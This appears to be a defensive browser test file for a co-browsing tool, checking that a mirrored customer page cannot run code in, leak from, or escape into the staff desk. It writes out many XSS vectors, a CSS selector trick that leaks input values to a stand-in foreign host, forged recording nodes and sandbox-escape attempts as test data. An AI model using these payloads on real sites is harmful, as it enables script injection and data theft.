// A page that tries to reach the agent's desk: through the mirror, and as a page that is looked at together.
import assert from "node:assert/strict";
import { element, frameOf, ingestAt, snapshotOf, text } from "../frames.mjs";
import { until } from "../ground.mjs";
import { widgetTag } from "../site.mjs";
import { like, say } from "../../words.mjs";

/** Whose browser asked the foreign server for something. */
const askedByStaff = (foreign, network) => foreign.asked.filter(({ from }) => from !== network.address);

export async function contained({ journal: { step, note }, stage, server, company, foreign, network, dana, mallory }) {
  const tag = widgetTag(server.edge, { "data-profile": "public-site", "data-title": "Ask us" });
  const pixel = { type: "image/png", body: Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64"), headers: { "access-control-allow-origin": "*" } };
  for (const path of ["/x.png", "/y.png"]) foreign.pages[path] = pixel;
  foreign.pages["/x.css"] = { type: "text/css", body: "h1{color:red}", headers: { "access-control-allow-origin": "*" } };
  foreign.pages["/x.js"] = { type: "text/javascript", body: "window.hacked = 'by a foreign script'" };
  foreign.pages["/x.html"] = "<p>foreign</p>";
  const desk = dana.page.url();
  const atDesk = () => dana.page.evaluate(() => ({ url: location.href, hacked: window.hacked ?? null, marks: document.querySelectorAll("[data-hacked]").length }));
  /** Nothing but what belongs there. */
  const unharmed = async (what) => {
    assert.deepEqual(await atDesk(), { url: desk, hacked: null, marks: 0 }, `${what}: the desk was changed`);
    const frame = await dana.frame();
    const found = await frame.evaluate(() => {
      const page = document.querySelector("#stage iframe");
      const inside = page.contentDocument;
      return {
        hacked: window.hacked ?? page.contentWindow.hacked ?? null,
        sandbox: page.getAttribute("sandbox"),
        forbidden: [...inside.querySelectorAll("script, iframe, frame, object, embed, base, meta[http-equiv], link[rel~=import], portal")].map(({ outerHTML }) => outerHTML.slice(0, 120)),
        handlers: [...inside.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
        programs: [...inside.querySelectorAll("[href],[src],[action],[formaction]")].filter((one) => /^\s*(javascript|vbscript):/i.test(["href", "src", "action", "formaction"].map((name) => one.getAttribute(name) ?? "").join(" "))).length,
      };
    });
    assert.equal(found.hacked, null, `${what}: a program ran in the mirror`);
    assert.deepEqual(found.forbidden, [], `${what}: what runs or loads is in the mirror`);
    assert.deepEqual([found.handlers, found.programs], [[], 0], `${what}: handlers or programs are in the mirror`);
    assert.doesNotMatch(found.sandbox ?? "", /allow-(scripts|top-navigation|popups|forms)/, `${what}: the mirror's frame may run programs`);
    const framed = () => dana.page.frames().map((one) => one.url());
    await until(dana.page, `${what}: an address of every frame`, () => framed().every((url) => url !== ""));
    const others = framed().filter((url) => !url.startsWith(server.desk) && !url.startsWith(server.mirror) && !/^about:/.test(url));
    assert.deepEqual(others, [], `${what}: a foreign page is framed`);
    assert.equal(dana.context.pages().length, 1, `${what}: a window was opened`);
    assert.deepEqual(askedByStaff(foreign, network), [], `${what}: the staff's browser asked the foreign server`);
  };

  await step("A page full of programs, forms, frames and foreign styles is only looked at", async () => {
    company.pages["/hostile"] = hostilePage(foreign.origin, tag);
    await mallory.customer.goto("/hostile");
    await mallory.bar.waitFor();
    await dana.shown("h1").filter({ hasText: "Hostile" }).waitFor();
    await mallory.page.evaluate(() => document.querySelector("h1").append(", all of it"));
    await dana.shown("h1").filter({ hasText: "all of it" }).waitFor();
    await stage.sideBySide("hostile", [["The customer's page", mallory.page], ["Dana's desk", dana.page]]);
    await dana.tool("Point");
    for (const place of ["#trap-link", "#trap-button", "#trap-drawing"]) await dana.click(place);
    await dana.tool("Look");
    await unharmed("the hostile page");
    note(`${foreign.asked.length} requests of the customer's own browser reached the foreign server, ${askedByStaff(foreign, network).length} of the staff's`);
    assert.ok(foreign.asked.length > 3, "the foreign server was not asked by anybody: nothing was tried");
  });
  await step("Programs that a forged recording brings along do not run", async () => {
    const { token } = await mallory.visit();
    const display = mallory.sent.display;
    let pageLoad = Date.now();
    const tried = forgedNodes(foreign.origin, company.origin);
    let taken = 0;
    for (const [what, node] of Object.entries(tried)) {
      pageLoad += 1;
      const socket = await ingestAt(server.edge, company.origin, { token, display, pageLoad });
      await socket.ready();
      socket.send(frameOf({ seq: 1, full: true, events: snapshotOf(`${company.origin}/forged`, [element(5, "h1", {}, [text(6, "forged")]), node], Date.now()) }));
      const refused = await Promise.race([socket.refusal(), socket.taken(1).then(() => null)]);
      if (refused) note(`${what}: ${refused.refused.code}, “${refused.refused.message}”`);
      else {
        taken += 1;
        // A picture that was taken is on the desk before it is judged.
        socket.send(frameOf({ seq: 2, events: [{ type: 3, timestamp: Date.now(), data: { source: 0, adds: [], removes: [], attributes: [], texts: [{ id: 6, value: what }] } }] }));
        await dana.shown("h1").filter({ hasText: what }).waitFor();
        await unharmed(what);
        note(`${what}: taken, and harmless`);
      }
      socket.close();
    }
    note(`${Object.keys(tried).length} kinds tried: ${taken} were shown as nothing, the others refused at the edge`);
  });
  await step("A page that is looked at together cannot leave its frame", async () => {
    company.pages["/together"] = togetherPage(foreign.origin);
    await mallory.customer.goto("/plain");
    await mallory.bar.waitFor();
    await dana.shown("h1").filter({ hasText: "A plain page" }).waitFor();
    await dana.push(`${company.origin}/together`);
    await mallory.answer(like("display.push.title"), say("display.push.open"));
    const results = dana.together.locator("#results");
    await results.filter({ hasText: "done" }).waitFor();
    const said = (await results.innerText()).trim();
    note(said.replaceAll("\n", " · "));
    assert.doesNotMatch(said, /reached/, "the page reached out of its frame");
    const { url, hacked, marks } = await atDesk();
    assert.deepEqual({ url, hacked, marks }, { url: desk, hacked: null, marks: 0 });
    assert.equal(dana.context.pages().length, 1, "a window was opened");
    await stage.sideBySide("together-contained", [["The customer", mallory.page], ["Dana's desk", dana.page]]);
    // Her own browser may open windows: what she looks at is hers.
    for (const window of mallory.context.pages()) if (window !== mallory.page) await window.close();
    await mallory.page.bringToFront();
    await mallory.display.getByRole("button", { name: say("display.together.back") }).click();
    await until(dana.page, "the mirror again", () => dana.shown("h1").filter({ hasText: "A plain page" }).isVisible());
  });
}

function hostilePage(foreign, tag) {
  const letters = "abcdefghijklmnopqrstuvwxyz".split("").map((letter) => `input[value^="${letter}"]{background:url("${foreign}/y.png?${letter}")} html:has(input[value^="${letter}"]){--leak:url("${foreign}/y.png?v${letter}")}`);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
    <meta http-equiv="refresh" content="86400;url=${foreign}/x.html">
    <link rel="stylesheet" href="${foreign}/x.css"><link rel="preload" as="image" href="${foreign}/x.png"><link rel="prefetch" href="${foreign}/x.html"><link rel="dns-prefetch" href="${foreign}"><link rel="icon" href="${foreign}/x.png">
    <style>@import "${foreign}/x.css"; @font-face{font-family:F;src:url("${foreign}/f.woff2")} h1{font-family:F,sans-serif;cursor:url("${foreign}/x.png"),auto}
      ul{list-style:url("${foreign}/x.png")} .a{background:image-set("${foreign}/x.png" 1x);border-image:url("${foreign}/x.png") 1;mask-image:url("${foreign}/x.png")} .b::after{content:url("${foreign}/x.png")} ${letters.join("\n")}</style>
    </head><body><main><h1>Hostile</h1>
    <script>window.hacked = "by an inline script"; try { parent.document.body.dataset.hacked = ""; top.document.title = "hacked" } catch {}</script>
    <script src="${foreign}/x.js"></script>
    <img src="${foreign}/x.png" srcset="${foreign}/y.png 2x" onerror="window.hacked='onerror'" onload="window.hacked='onload'" alt="">
    <picture><source srcset="${foreign}/x.png"><img src="${foreign}/x.png" alt=""></picture>
    <a id="trap-link" href="${foreign}/x.html" target="_top" onclick="window.hacked='click'" ping="${foreign}/x.html">press me</a>
    <form action="${foreign}/x.html" target="_top" onsubmit="window.hacked='submit'"><input name="q" value="secret" autofocus onfocus="window.hacked='focus'"><button id="trap-button" formaction="${foreign}/x.html">send</button></form>
    <iframe srcdoc="<script>top.hacked='srcdoc'</script>" title="x"></iframe><iframe src="javascript:top.hacked='frame'" title="x"></iframe><iframe src="${foreign}/x.html" title="x"></iframe>
    <object data="${foreign}/x.html"></object><embed src="${foreign}/x.html">
    <svg id="trap-drawing" width="40" height="40" onload="window.hacked='svg'"><script>window.hacked='svg script'</script><a href="javascript:window.hacked='svg link'"><rect width="40" height="40"/></a><image href="${foreign}/x.png" width="9" height="9"/><use href="${foreign}/x.svg#x"/><animate attributeName="href" to="javascript:window.hacked='animate'" begin="0s"/><set attributeName="onclick" to="window.hacked='set'"/><foreignObject width="9" height="9"><iframe src="${foreign}/x.html" title="x"></iframe></foreignObject></svg>
    <math href="javascript:window.hacked='math'"><mtext>m</mtext></math>
    <video poster="${foreign}/x.png" src="${foreign}/x.mp4" autoplay></video><audio src="${foreign}/x.mp3"></audio>
    <table background="${foreign}/x.png"><tr><td>t</td></tr></table><p class="a b">styled</p><ul><li>listed</li></ul>
    <details open ontoggle="window.hacked='toggle'"><summary>d</summary></details><div style="background:url('${foreign}/x.png');animation:x" onanimationstart="window.hacked='animation'">styled</div>
    </main>${tag}</body></html>`;
}

/** Serialized nodes as no recorder makes them. */
function forgedNodes(foreign, company) {
  const box = (tag, attributes = {}, children = []) => element(60, tag, attributes, children);
  return {
    "a script": box("script", {}, [text(61, "window.hacked='script'")]),
    "a foreign script": box("script", { src: `${foreign}/x.js` }),
    "an SCRIPT in capitals": box("SCRIPT", {}, [text(61, "window.hacked='SCRIPT'")]),
    "a script in another name space": box("svg:script", {}, [text(61, "window.hacked='svg:script'")]),
    "a script in a drawing": { ...box("svg", {}, [{ ...element(61, "script", {}, [text(62, "window.hacked='svg'")]), isSVG: true }]), isSVG: true },
    "an iframe with srcdoc": box("iframe", { srcdoc: "<script>top.hacked='srcdoc'</script>" }),
    "a foreign iframe": box("iframe", { src: `${foreign}/x.html` }),
    "an iframe of the company's": box("iframe", { src: `${company}/plain` }),
    "an object": box("object", { data: `${foreign}/x.html` }),
    "an embed": box("embed", { src: `${foreign}/x.html` }),
    "a refresh": box("meta", { "http-equiv": "refresh", content: `0;url=${foreign}/x.html` }),
    "a base": box("base", { href: `${foreign}/`, target: "_top" }),
    "a form": box("form", { action: `${foreign}/x.html`, target: "_top" }, [element(61, "button", { autofocus: "" }, [text(62, "send")])]),
    "a foreign picture": box("img", { src: `${foreign}/x.png` }),
    "a foreign srcset": box("img", { srcset: `${foreign}/x.png 1x` }),
    "a foreign style sheet": box("link", { rel: "stylesheet", href: `${foreign}/x.css` }),
    "a foreign style": box("style", { _cssText: `h1{background:url("${foreign}/x.png")} @import "${foreign}/x.css";` }),
    "a style as text": box("style", {}, [text(61, `@import "${foreign}/x.css"; h1{background:url(${foreign}/y.png)}`)]),
    "a style attribute": box("p", { style: `background:url(${foreign}/x.png)` }),
    "a prefetch": box("link", { rel: "prefetch", href: `${foreign}/x.html` }),
    "a preload": box("link", { rel: "preload", as: "image", href: `${foreign}/x.png` }),
    "a foreign use": { ...box("svg", {}, [{ ...element(61, "use", { href: `${foreign}/x.svg#x` }), isSVG: true }]), isSVG: true },
    "a foreign image in a drawing": { ...box("svg", {}, [{ ...element(61, "image", { href: `${foreign}/x.png` }), isSVG: true }]), isSVG: true },
    "a poster": box("video", { poster: `${foreign}/x.png`, autoplay: "" }),
    "a data frame": box("iframe", { src: "data:text/html,<script>top.hacked='data'</script>" }),
    "an inline drawing with a script": box("img", { src: `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><script>top.hacked="image"</script></svg>')}` }),
    "rrweb's inlined canvas": box("canvas", { rr_dataURL: `${foreign}/x.png` }),
    "a custom element of ours": box("lockstep-widget", {}, [text(61, "x")]),
    "a shared widget from elsewhere": box("evil-widget", { "data-lockstep-shared": "evil", "data-lockstep-src": `${foreign}/x.js`, "data-lockstep-tag": "evil-widget", style: "display:block;width:50px;height:50px" }),
  };
}

/** Tries every way out of its frame, and says what came of it. */
function togetherPage(foreign) {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Together</title></head><body><h1>Together</h1><pre id="results"></pre>
    <form id="form" action="${foreign}/x.html" target="_top"></form><a id="link" href="${foreign}/x.html" target="_top">out</a>
    <script>
      const results = document.querySelector("#results");
      const tries = {
        "the parent's document": () => parent.document.body.dataset.hacked = "",
        "the top's document": () => top.document.body.dataset.hacked = "",
        "the top's address": () => { top.location.href = "${foreign}/x.html"; },
        "the parent's address": () => { parent.location.replace("${foreign}/x.html"); },
        "the opener": () => { if (!opener) throw new Error("there is none"); opener.document.body.dataset.hacked = ""; },
        "the frame's element": () => { if (!frameElement) throw new Error("not to be seen"); frameElement.removeAttribute("sandbox"); },
        "a variable of the top's": () => { top.hacked = "together"; },
        "a form to the top": () => { document.querySelector("#form").submit(); throw new Error("sent nowhere"); },
        "a link to the top": () => { document.querySelector("#link").click(); throw new Error("led nowhere"); },
        "a window": () => { if (!open("${foreign}/x.html")) throw new Error("none was opened"); },
        "the top's storage": () => top.localStorage.length,
      };
      for (const [what, tried] of Object.entries(tries)) {
        try { tried(); results.append(what + ": reached\\n"); } catch (cause) { results.append(what + ": " + cause.name + "\\n"); }
      }
      try { parent.postMessage({ type: "lockstep-mirror" }, "*"); parent.postMessage({ type: "init" }, "*"); } catch {}
      results.append("done");
    </script></body></html>`;
}
